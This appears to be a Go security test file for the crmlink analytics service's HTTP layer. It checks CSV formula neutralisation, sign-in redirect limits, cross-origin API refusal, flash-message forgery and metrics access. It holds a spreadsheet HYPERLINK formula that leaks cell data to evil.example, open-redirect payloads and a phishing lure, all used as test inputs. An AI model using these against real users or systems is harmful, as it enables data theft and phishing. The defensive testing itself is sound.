package http_test

import (
	"context"
	"encoding/csv"
	"io"
	"net/http"
	"net/http/httptest"
	"net/url"
	"regexp"
	"strings"
	"testing"
	"time"

	"github.com/crmlink/crmlink"
	crmhttp "github.com/crmlink/crmlink/http"
)

const hyperlink = `=HYPERLINK("http://evil.example/?leak="&A1,"Click")`

// TestCSVExportNeutral: a UTM tag planted by a hit to /collect comes out
// of /stat/v1/data.csv as text a spreadsheet does not run, and the
// numbers beside it stay numbers.
func TestCSVExportNeutral(t *testing.T) {
	f := newCollectFixture(t)
	ctx := context.Background()
	landing := "https://shop.example/?utm_source=" + url.QueryEscape(hyperlink) + "&utm_medium=social"
	for i, cid := range []string{"1772362800123456789", "1772362800987654321"} {
		hit := map[string]any{"cid": cid, "t": "pv", "url": landing, "ref": ""}
		if i == 1 {
			hit["url"] = "https://shop.example/?utm_source=-1%2B1&utm_medium=social"
		}
		if code := f.hit(t, chromeUA, hit); code != http.StatusNoContent {
			t.Fatalf("hit: %d", code)
		}
	}
	if err := f.store.SyncHits(ctx); err != nil {
		t.Fatal(err)
	}
	secret := crmhttp.NewTokenSecret()
	if err := f.store.CreateToken(ctx, &crmlink.Token{Hash: crmhttp.HashToken(secret), CounterID: f.counter.ID, Scope: crmlink.ScopeRead}); err != nil {
		t.Fatal(err)
	}
	req, _ := http.NewRequest("GET", f.srv.URL+"/stat/v1/data.csv?ids="+f.counter.ID.String()+
		"&date1=2026-03-01&date2=2026-03-01&dimensions=ym:s:lastUTMSource&metrics=ym:s:visits&sort=ym:s:lastUTMSource", nil)
	req.Header.Set("Authorization", "OAuth "+secret)
	resp, err := http.DefaultClient.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	if resp.StatusCode != 200 {
		t.Fatalf("data.csv: %d", resp.StatusCode)
	}
	recs, err := csv.NewReader(resp.Body).ReadAll()
	if err != nil {
		t.Fatalf("not CSV: %v", err)
	}
	want := [][]string{{"ym:s:lastUTMSource", "ym:s:visits"}, {"Total and averages", "2"},
		{"'-1+1", "1"}, {"'" + hyperlink, "1"}}
	if len(recs) != len(want) {
		t.Fatalf("got %q, want %q", recs, want)
	}
	for i := range want {
		if strings.Join(recs[i], "|") != strings.Join(want[i], "|") {
			t.Errorf("line %d: %q, want %q", i+1, recs[i], want[i])
		}
	}
}

// TestSigninNextStaysHere: a sign-in link cannot send the browser to
// another site, through the form's hidden field or its POST.
func TestSigninNextStaysHere(t *testing.T) {
	f := newFixture(t, 0)
	for _, next := range []string{"/%09/evil.example/phish", "/%5C/evil.example", "/%2F/evil.example", "//evil.example"} {
		b := newBrowser(t, f)
		form := b.get("/signin?next=" + next)
		if !strings.Contains(form.body, `name="next" value="/"`) {
			t.Errorf("next=%s: the form carries %q", next, regexp.MustCompile(`name="next" value="[^"]*"`).FindString(form.body))
		}
		decoded, _ := url.QueryUnescape(next)
		p := b.post("/signin", url.Values{"csrf": {csrfOf(t, form)}, "token": {f.admin}, "next": {decoded}})
		if p.code != http.StatusSeeOther || p.location != "/" {
			t.Errorf("next=%q: %d to %q, want /", decoded, p.code, p.location)
		}
	}
	b := newBrowser(t, f)
	form := b.get("/signin?next=" + url.QueryEscape("/c/1/sources?date1=2026-01-01"))
	p := b.post("/signin", url.Values{"csrf": {csrfOf(t, form)}, "token": {f.admin}, "next": {"/c/1/sources?date1=2026-01-01"}})
	if p.location != "/c/1/sources?date1=2026-01-01" {
		t.Errorf("a page of this site: redirected to %q", p.location)
	}
}

// TestNoSniff: every answer, whatever its type or status, carries
// X-Content-Type-Options: nosniff.
func TestNoSniff(t *testing.T) {
	f := newShopFixture(t)
	b := newBrowser(t, f.fixture)
	for _, path := range []string{"/healthz", "/metrics", "/nope", "/stat/v1/data" + f.path + "&metrics=ym:s:visits",
		"/stat/v1/data.csv" + f.path + "&metrics=ym:s:visits", "/stat/v1/data.csv" + f.path + "&metrics=ym:s:nope",
		"/management/v1/counters", "/signin", "/", "/c/" + f.shop.ID.String() + "/", "/static/x/app.css", "/static/x/nope.css"} {
		req, _ := http.NewRequest("GET", f.srv.URL+path, nil)
		if strings.HasPrefix(path, "/stat/") {
			req.Header.Set("Authorization", "OAuth "+f.token)
		}
		p := b.do(req)
		if got := p.header.Get("X-Content-Type-Options"); got != "nosniff" {
			t.Errorf("GET %s (%d): X-Content-Type-Options %q", path, p.code, got)
		}
	}
	c := newCollectFixture(t)
	for _, path := range []string{"/tag.js", "/collect/" + c.counter.ID.String() + "?cid=1&t=pv&url=https%3A%2F%2Fshop.example%2F"} {
		resp, err := http.Get(c.srv.URL + path)
		if err != nil {
			t.Fatal(err)
		}
		resp.Body.Close()
		if got := resp.Header.Get("X-Content-Type-Options"); got != "nosniff" {
			t.Errorf("GET %s (%d): X-Content-Type-Options %q", path, resp.StatusCode, got)
		}
	}
}

// TestAPICookieCrossOrigin: an API call that a dashboard cookie
// authenticates is refused from another origin even with the right CSRF
// header; a call with a token is not affected.
func TestAPICookieCrossOrigin(t *testing.T) {
	f := newFixture(t, 0)
	b := newBrowser(t, f)
	b.signIn(f.admin, "", "")
	csrf := csrfOf(t, b.get("/c/"+f.counter.ID.String()+"/"))
	api := "/cdp/api/v1/counter/" + f.counter.ID.String() + "/schema/order_statuses"
	body := `{"order_statuses":[{"id":"new","humanized":"New","type":"IN_PROGRESS"}]}`
	post := func(b *browser, header ...string) page {
		req, _ := http.NewRequest("POST", f.srv.URL+api, strings.NewReader(body))
		req.Header.Set("Content-Type", "application/json")
		for i := 0; i+1 < len(header); i += 2 {
			req.Header.Set(header[i], header[i+1])
		}
		return b.do(req)
	}
	for _, h := range [][]string{
		{"Sec-Fetch-Site", "cross-site"},
		{"Sec-Fetch-Site", "same-site"},
		{"Origin", "https://evil.example"},
	} {
		p := post(b, "X-CSRF-Token", csrf, h[0], h[1])
		if p.code != http.StatusForbidden || !strings.Contains(p.body, "cross-origin") || !strings.HasPrefix(p.header.Get("Content-Type"), "application/json") {
			t.Errorf("cookie, %s: %s: %d %s", h[0], h[1], p.code, p.body)
		}
	}
	for _, h := range [][]string{{"Sec-Fetch-Site", "same-origin"}, {"Origin", f.srv.URL}, {"X-Nothing", ""}} {
		if p := post(b, "X-CSRF-Token", csrf, h[0], h[1]); p.code != 200 {
			t.Errorf("cookie, %s: %s: %d %s", h[0], h[1], p.code, p.body)
		}
	}
	// GETs are not refused: browsers do not let another site read them.
	req, _ := http.NewRequest("GET", f.srv.URL+api, nil)
	req.Header.Set("Sec-Fetch-Site", "cross-site")
	if p := b.do(req); p.code != 200 {
		t.Errorf("cookie, cross-site GET: %d", p.code)
	}
	// A token is not a browser's: its calls are not checked.
	for _, tok := range []string{"Authorization", "oauth_token"} {
		bare := newBrowser(t, f)
		req, _ := http.NewRequest("POST", f.srv.URL+api, strings.NewReader(body))
		req.Header.Set("Content-Type", "application/json")
		req.Header.Set("Sec-Fetch-Site", "cross-site")
		req.Header.Set("Origin", "https://crm.example")
		if tok == "Authorization" {
			req.Header.Set("Authorization", "OAuth "+f.write)
		} else {
			req.URL.RawQuery = "oauth_token=" + f.write
		}
		if p := bare.do(req); p.code != 200 {
			t.Errorf("token in %s, cross-site: %d %s", tok, p.code, p.body)
		}
	}
}

// TestFlashNotFromURL: the dashboard shows a message only when our own
// form's answer left it, once; a link's ?flash= or a cookie this
// browser's session did not sign shows nothing.
func TestFlashNotFromURL(t *testing.T) {
	f := newFixture(t, 0)
	b := newBrowser(t, f)
	b.signIn(f.admin, "", "")
	base := "/c/" + f.counter.ID.String() + "/"
	lure := "Your account is locked. Call +7 800 000-00-00"
	for _, q := range []string{"?flash=" + url.QueryEscape(lure), "?flash=settings_saved", "?flash=user_added&name=x"} {
		p := b.get(base + "settings" + q)
		if p.code != 200 || strings.Contains(p.body, `class="flash"`) || strings.Contains(p.body, "locked") {
			t.Errorf("settings%s: %d, shows a flash", q, p.code)
		}
	}
	csrf := csrfOf(t, b.get(base+"uploads"))
	post := b.post(base+"statuses", url.Values{"csrf": {csrf}, "status": {"done"}, "type": {"PAID"}})
	if strings.Contains(post.location, "flash") || strings.Contains(post.location, "saved") {
		t.Errorf("the message is in the URL: %q", post.location)
	}
	var signed *http.Cookie
	for _, c := range (&http.Response{Header: post.header}).Cookies() {
		if c.Name == "crmlink_flash" {
			signed = c
		}
	}
	if signed == nil || signed.MaxAge <= 0 || signed.MaxAge > 60 || !signed.HttpOnly || signed.Path != base {
		t.Fatalf("flash cookie: %+v", signed)
	}
	if msg := b.flash(post); msg != "Status done saved." {
		t.Errorf("after saving a status: %q", msg)
	}
	if p := b.get(base + "uploads"); strings.Contains(p.body, "saved.") {
		t.Error("the message is shown twice")
	}
	// Another browser's cookie, or a made-up one, shows nothing.
	other := newBrowser(t, f)
	other.signIn(f.admin, "", "")
	u, _ := url.Parse(f.srv.URL + base)
	forged := *signed
	forged.Value = strings.Replace(signed.Value, ".", ".0", 1)[:len(signed.Value)]
	for _, c := range []*http.Cookie{signed, &forged, {Name: "crmlink_flash", Value: "Q2FsbCB1cw"}} {
		other.c.Jar.SetCookies(u, []*http.Cookie{{Name: c.Name, Value: c.Value, Path: base}})
		if p := other.get(base + "uploads"); strings.Contains(p.body, `class="flash"`) {
			t.Errorf("cookie %q: shows a flash", c.Value)
		}
	}
}

// TestUserNameTakenElsewhere: a counter's admin adding a user whose name
// another counter's user has is refused without being told that the name
// exists; their own users are named as such; an admin of every counter is
// told plainly.
func TestUserNameTakenElsewhere(t *testing.T) {
	f := newFixture(t, 0)
	ctx := context.Background()
	hash, err := crmhttp.HashPassword("olga's password")
	if err != nil {
		t.Fatal(err)
	}
	for _, u := range []*crmlink.User{{Name: "olga", PasswordHash: hash, CounterID: f.other.ID, Scope: crmlink.ScopeAdmin},
		{Name: "root", PasswordHash: hash, Scope: crmlink.ScopeAdmin},
		{Name: "maria", PasswordHash: hash, CounterID: f.counter.ID, Scope: crmlink.ScopeRead}} {
		if err := f.store.CreateUser(ctx, u); err != nil {
			t.Fatal(err)
		}
	}
	admin := crmhttp.NewTokenSecret()
	if err := f.store.CreateToken(ctx, &crmlink.Token{Hash: crmhttp.HashToken(admin), CounterID: f.counter.ID, Scope: crmlink.ScopeAdmin}); err != nil {
		t.Fatal(err)
	}
	base := "/c/" + f.counter.ID.String()
	add := func(b *browser, name string) string {
		csrf := csrfOf(t, b.get(base+"/settings"))
		return b.flash(b.post(base+"/users", url.Values{"csrf": {csrf}, "user": {name}, "password": {"long enough pw"}, "scope": {"read"}}))
	}
	b := newBrowser(t, f)
	b.signIn(admin, "", "")
	generic := "User not added: this name cannot be used; choose another."
	for _, name := range []string{"olga", "root"} {
		if msg := add(b, name); msg != generic {
			t.Errorf("counter admin adds %s, taken elsewhere: %q, want %q", name, msg, generic)
		}
	}
	if msg := add(b, "maria"); msg != "User not added: maria is already a user of this counter." {
		t.Errorf("counter admin adds their own maria: %q", msg)
	}
	all := newBrowser(t, f)
	all.signIn(f.admin, "", "")
	if msg := add(all, "olga"); msg != "User not added: a user named olga already exists on this server." {
		t.Errorf("admin of every counter adds olga: %q", msg)
	}
	if u, err := f.store.User(ctx, "olga"); err != nil || u.CounterID != f.other.ID || !crmhttp.CheckPassword(u.PasswordHash, "olga's password") {
		t.Errorf("olga after the attempts: %+v, %v", u, err)
	}
}

// TestMetricsLimited: with a metrics token, /metrics answers only
// "Authorization: Bearer <token>"; with MetricsApart the server answers
// 404 for it and MetricsHandler serves it elsewhere.
func TestMetricsLimited(t *testing.T) {
	clock := &crmlink.FixedClock{T: time.Date(2026, 3, 1, 12, 0, 0, 0, time.UTC)}
	st := tempStore(t, clock)
	get := func(h http.Handler, auth string) (int, string) {
		srv := httptest.NewServer(h)
		defer srv.Close()
		req, _ := http.NewRequest("GET", srv.URL+"/metrics", nil)
		if auth != "" {
			req.Header.Set("Authorization", auth)
		}
		resp, err := http.DefaultClient.Do(req)
		if err != nil {
			t.Fatal(err)
		}
		defer resp.Body.Close()
		raw, _ := io.ReadAll(resp.Body)
		return resp.StatusCode, string(raw)
	}
	withToken := crmhttp.NewServer(crmhttp.Config{Store: st, Clock: clock, Logger: discardLogger(), MetricsToken: "m-secret-1"})
	for _, auth := range []string{"", "Bearer m-secret-2", "Bearer m-secret-", "Bearer m-secret-11", "OAuth m-secret-1", "m-secret-1", "Basic bTpt"} {
		if code, body := get(withToken, auth); code != http.StatusUnauthorized || strings.Contains(body, "go_goroutines") {
			t.Errorf("token set, Authorization %q: %d", auth, code)
		}
	}
	for _, auth := range []string{"Bearer m-secret-1", "bearer  m-secret-1"} {
		if code, body := get(withToken, auth); code != 200 || !strings.Contains(body, "go_goroutines") {
			t.Errorf("token set, Authorization %q: %d", auth, code)
		}
	}
	apart := crmhttp.NewServer(crmhttp.Config{Store: st, Clock: clock, Logger: discardLogger(), MetricsApart: true})
	if code, body := get(apart, ""); code != 404 || strings.Contains(body, "go_goroutines") {
		t.Errorf("metrics apart, main listener: %d", code)
	}
	if code, body := get(apart.MetricsHandler(), ""); code != 200 || !strings.Contains(body, "go_goroutines") {
		t.Errorf("metrics apart, their own handler: %d", code)
	}
	rec := httptest.NewRecorder()
	apart.MetricsHandler().ServeHTTP(rec, httptest.NewRequest("GET", "/metrics", nil))
	if got := rec.Header().Get("X-Content-Type-Options"); got != "nosniff" {
		t.Errorf("metrics apart: X-Content-Type-Options %q", got)
	}
	both := crmhttp.NewServer(crmhttp.Config{Store: st, Clock: clock, Logger: discardLogger(), MetricsApart: true, MetricsToken: "m"})
	if code, _ := get(both.MetricsHandler(), ""); code != http.StatusUnauthorized {
		t.Errorf("metrics apart with a token, no token: %d", code)
	}
	if code, _ := get(both.MetricsHandler(), "Bearer m"); code != 200 {
		t.Errorf("metrics apart with a token: %d", code)
	}
}
